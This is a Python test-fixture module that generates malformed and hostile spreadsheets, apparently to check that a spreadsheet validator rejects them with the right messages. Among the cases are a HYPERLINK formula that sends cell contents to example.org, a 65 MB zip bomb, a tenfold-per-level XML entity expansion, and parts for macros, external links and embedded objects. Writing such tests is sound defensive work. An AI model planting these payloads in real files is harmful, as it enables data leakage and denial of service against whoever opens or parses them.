"""Spreadsheets as people and attackers make them."""

import io
import zipfile
from datetime import date

from openpyxl import Workbook

HEAD = [("guideline", "mine"), ("kind", "pairs"), ("title", "Mine")]
COLUMNS = ["key", "name", "shows", "corrections", "positive"]
ROWS = [
    ["forcing-change", "Forcing change", "Argues,\nand urges.", "Listen. |\nAsk.", None],
    ["poor-listening", "Poor listening", "Interrupts.", "Let her finish.", "no"],
]


def spreadsheet(rows=ROWS, columns=COLUMNS, head=HEAD, **cells) -> bytes:
    """A workbook as somebody types it; `cells` such as C3="=1+1" are put in last."""
    book = Workbook()
    about = book.active
    about.title = "guideline"
    for row in head:
        about.append(row)
    table = book.create_sheet("pairs")
    for row in [columns, *rows]:
        table.append(row)
    for place, value in cells.items():
        table[place] = value
    return saved(book)


def saved(book: Workbook) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def repacked(data: bytes, drop=(), change=None, **parts) -> bytes:
    """The package with parts added (name=bytes; `__` stands for a slash), dropped, or changed."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in drop:
                content = old.read(name)
                new.writestr(name, change(name, content) if change else content)
        for name, content in parts.items():
            new.writestr(name.replace("__", "/").replace("_DOT_", "."), content)
    return out.getvalue()


def renamed_sheet() -> bytes:
    book = Workbook()
    book.active.title = "guideline"
    for row in HEAD:
        book.active.append(row)
    book.create_sheet("Tabelle2")
    return saved(book)


def bomb() -> bytes:
    return repacked(spreadsheet(), xl__media__image1_DOT_png=b"\0" * (65 * 1024 * 1024))


def entities() -> bytes:
    """A text that grows tenfold at every level."""
    rows = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 9))
    doctype = f'<!DOCTYPE x [<!ENTITY a0 "ha">{rows}]>'.encode()

    def change(name, content):
        if name != "xl/worksheets/sheet2.xml":
            return content
        # Behind the declaration, where there is one.
        at = content.index(b"?>") + 2 if content.startswith(b"<?xml") else 0
        assert b"Interrupts." in content
        return content[:at] + doctype + content[at:].replace(b"Interrupts.", b"&a8;")

    return repacked(spreadsheet(), change=change)


def locked() -> bytes:
    """As if a part were encrypted: the bit that says so is set in its entry of the directory."""
    data = bytearray(spreadsheet())
    at = data.rfind(b"PK\x01\x02")
    data[at + 8] |= 1
    return bytes(data)


# name: (what makes the file, sheet, row, column, field, words of the reason)
BAD = {
    "a formula": (lambda: spreadsheet(C3="=1+1"), "pairs", 3, "C", "shows", "holds a formula"),
    "a formula that calls out": (
        lambda: spreadsheet(C3='=HYPERLINK("http://example.org/?"&A2,"x")'),
        "pairs", 3, "C", "shows", "holds a formula",
    ),
    "a number for a text": (lambda: spreadsheet(B3=2020), "pairs", 3, "B", "name", "holds the number or date 2020"),
    "a date for a text": (
        lambda: spreadsheet(B3=date(2020, 1, 2)), "pairs", 3, "B", "name", "holds the number or date 43832",
    ),
    "a yes for a text": (lambda: spreadsheet(C2=True), "pairs", 2, "C", "shows", "TRUE or FALSE"),
    "a number for a key": (lambda: spreadsheet(A3=7), "pairs", 3, "A", "key", "holds the number or date 7"),
    "a flag that is not one": (lambda: spreadsheet(E3="perhaps"), "pairs", 3, "E", "positive", "true or false"),
    "two as a flag": (lambda: spreadsheet(E3=2), "pairs", 3, "E", "positive", "holds the number or date 2"),
    "an error": (lambda: spreadsheet(C3="#REF!"), "pairs", 3, "C", "shows", "holds the error #REF!"),
    "a missing correction": (lambda: spreadsheet(D3=None), "pairs", 3, "D", "corrections", "missing"),
    "a key twice": (lambda: spreadsheet(A3="forcing-change"), "pairs", 3, "A", "key", "another entry"),
    "a key with blanks": (lambda: spreadsheet(A3="poor listening"), "pairs", 3, "A", "key", "short name"),
    "a cell beside the table": (lambda: spreadsheet(H3="see Amir"), "pairs", 3, "", "pairs", "more cells"),
    "a column that is none": (lambda: spreadsheet(C1="showing"), "pairs", 1, "C", "showing", "not a known column"),
    "a column twice": (lambda: spreadsheet(C1="name"), "pairs", 1, "B", "name", "twice"),
    "no column for the key": (lambda: spreadsheet(A1="tags"), "pairs", 1, "", "key", "this column is missing"),
    "a formula for a column's name": (lambda: spreadsheet(C1="=A1"), "pairs", 1, "C", "", "holds a formula"),
    "a gap without end": (lambda: spreadsheet(A1040000="x"), "pairs", 1_040_000, "B", "name", "is missing"),
    "a cell sixteen thousand columns away": (
        lambda: spreadsheet(WQK3="x"), "pairs", 3, "", "pairs", "more cells",
    ),
    "a formula sixteen thousand columns away": (
        lambda: spreadsheet(WQK1="=1"), "pairs", 1, "WQK", "", "holds a formula",
    ),
    "no entries": (lambda: spreadsheet(rows=[]), "pairs", 1, "", "pairs", "at least one"),
    "an unknown kind": (
        lambda: spreadsheet(head=[("guideline", "mine"), ("kind", "pears")]),
        "guideline", 2, "", "kind", "pairs or rubric",
    ),
    "a title that is a number": (
        lambda: spreadsheet(head=[*HEAD[:2], ("title", 2020)]),
        "guideline", 3, "", "title", "holds the number or date 2020",
    ),
    "a head that is unknown": (
        lambda: spreadsheet(head=[*HEAD, ("editor", "Ana")]), "guideline", 4, "", "editor", "not known",
    ),
    "a sheet of another name": (
        lambda: renamed_sheet(), "", None, "", "", "no sheet “pairs”; it has: guideline, tabelle2",
    ),
    "no head at all": (lambda: saved(Workbook()), "", None, "", "", "no sheet “guideline”"),
    "macros": (lambda: repacked(spreadsheet(), xl__vbaProject_DOT_bin=b"x"), "", None, "", "", "holds macros"),
    "links to other files": (
        lambda: repacked(spreadsheet(), xl__externalLinks__externalLink1_DOT_xml=b"<x/>"), "", None, "", "",
        "linked to other",
    ),
    "a connection to a database": (
        lambda: repacked(spreadsheet(), xl__connections_DOT_xml=b"<x/>"), "", None, "", "", "linked to other",
    ),
    "an embedded object": (
        lambda: repacked(spreadsheet(), xl__embeddings__oleObject1_DOT_bin=b"x"), "", None, "", "", "embedded objects",
    ),
    "a bomb": (lambda: bomb(), "", None, "", "", "unpacks to more than 64 MB"),
    "thousands of parts": (
        lambda: repacked(spreadsheet(), **{f"x{n}": b"" for n in range(2_100)}), "", None, "", "", "unpacks to more",
    ),
    "entities that multiply": (lambda: entities(), "", None, "", "", "cannot be read as a spreadsheet"),
    "a password": (
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "", None, "", "", "has a password or is in the old",
    ),
    "an encrypted part": (lambda: locked(), "", None, "", "", "is encrypted"),
    "a part twice": (
        lambda: repacked(spreadsheet(), XL__workbook_DOT_xml=b"<x/>"), "", None, "", "", "not packed as a spreadsheet",
    ),
    "a text document by this name": (
        lambda: repacked(spreadsheet(), drop=["xl/workbook.xml"], word__document_DOT_xml=b"<x/>"),
        "", None, "", "", "is not a spreadsheet",
    ),
    "CSV by this name": (lambda: b"key,name\na,b\n", "", None, "", "", "is not a spreadsheet"),
    "an empty file": (lambda: b"", "", None, "", "", "is not a spreadsheet"),
    "half a file": (lambda: spreadsheet()[:3000], "", None, "", "", "is not a spreadsheet"),
    "broken XML": (
        lambda: repacked(spreadsheet(), change=lambda name, content: content[:200] if "sheet2" in name else content),
        "", None, "", "", "cannot be read as a spreadsheet",
    ),
    "a control character": (
        lambda: spreadsheet(C3="Interrupts_x0007_."), "pairs", 3, "C", "shows", "control character U+0007",
    ),
    "thirty megabytes": (lambda: b"PK\x03\x04" + b"x" * 30_000_000, "", None, "", "", "larger than 20 MB"),
}  # fmt: skip
